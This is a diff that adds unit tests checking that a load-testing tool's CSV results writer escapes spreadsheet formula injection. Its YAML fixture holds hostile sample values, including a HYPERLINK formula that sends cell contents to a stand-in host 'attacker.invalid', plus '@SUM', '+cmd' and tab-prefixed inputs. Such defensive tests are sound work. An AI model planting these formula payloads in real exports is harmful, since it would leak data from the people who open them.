@@ -27,6 +27,51 @@ class CsvWriterTest {
   }
 
   @Test
+  void textThatASpreadsheetWouldRunAsAFormulaIsEscapedInResultsCsv() throws Exception {
+    // values a scenario author controls end up in results.csv: model, instance, quantization
+    io.barrage.protocol.results.RunRecord base = ResultWriterTest.run();
+    String yaml = """
+        name: fixture
+        targets:
+          - name: fastapi-a100
+            api: fastapi
+            url: http://127.0.0.1:9/generate
+            model: '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
+            deployment: {instance: "@SUM(1+1)", gpus: 1, quantization: "+cmd", usdPerHour: 4.10}
+          - name: tgi-2xa4000
+            api: tgi-stream
+            url: http://127.0.0.1:9
+            model: "-2+3"
+            deployment: {instance: "\tx", gpus: 2, usdPerHour: 1.52}
+        workload:
+          prompt: {text: "hello"}
+          maxNewTokens: [128]
+          load: {concurrency: [1, 300]}
+          step: {requests: 10}
+        """;
+    var hostile = new io.barrage.protocol.results.RunRecord(base.runId(), io.barrage.protocol.scenario.ScenarioLoader.parse(yaml, null),
+        base.startedAtEpochMs(), base.endedAtEpochMs(), base.outcome(), base.workersPlanned(), base.workerEvents(), base.cells());
+    String csv = CsvWriter.render(SummaryBuilder.summary(hostile));
+    String[] lines = csv.split("\r\n");
+    // no cell of any row starts with a formula character
+    for (String line : lines) {
+      for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1)) {
+        String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
+        assertThat(unquoted).as(line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@").doesNotStartWith("\t");
+        if (unquoted.startsWith("-")) assertThat(unquoted).as("a negative number only").matches("-[0-9.]+");
+      }
+    }
+    assertThat(csv).contains("\"'=HYPERLINK(\"\"http://attacker.invalid/?\"\"&A1,\"\"open\"\")\"", "'@SUM(1+1)", "'+cmd", "'-2+3");
+  }
+
+  @Test
+  void negativeNumbersStayNumbers() {
+    assertThat(CsvWriter.quote("-1.5")).isEqualTo("-1.5");
+    assertThat(CsvWriter.quote("-2e-3")).isEqualTo("-2e-3");
+    assertThat(CsvWriter.quote("-1+1")).isEqualTo("'-1+1");
+  }
+
+  @Test
   void quotesFieldsThatNeedIt() {
     assertThat(CsvWriter.quote("a,b")).isEqualTo("\"a,b\"");
     assertThat(CsvWriter.quote("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
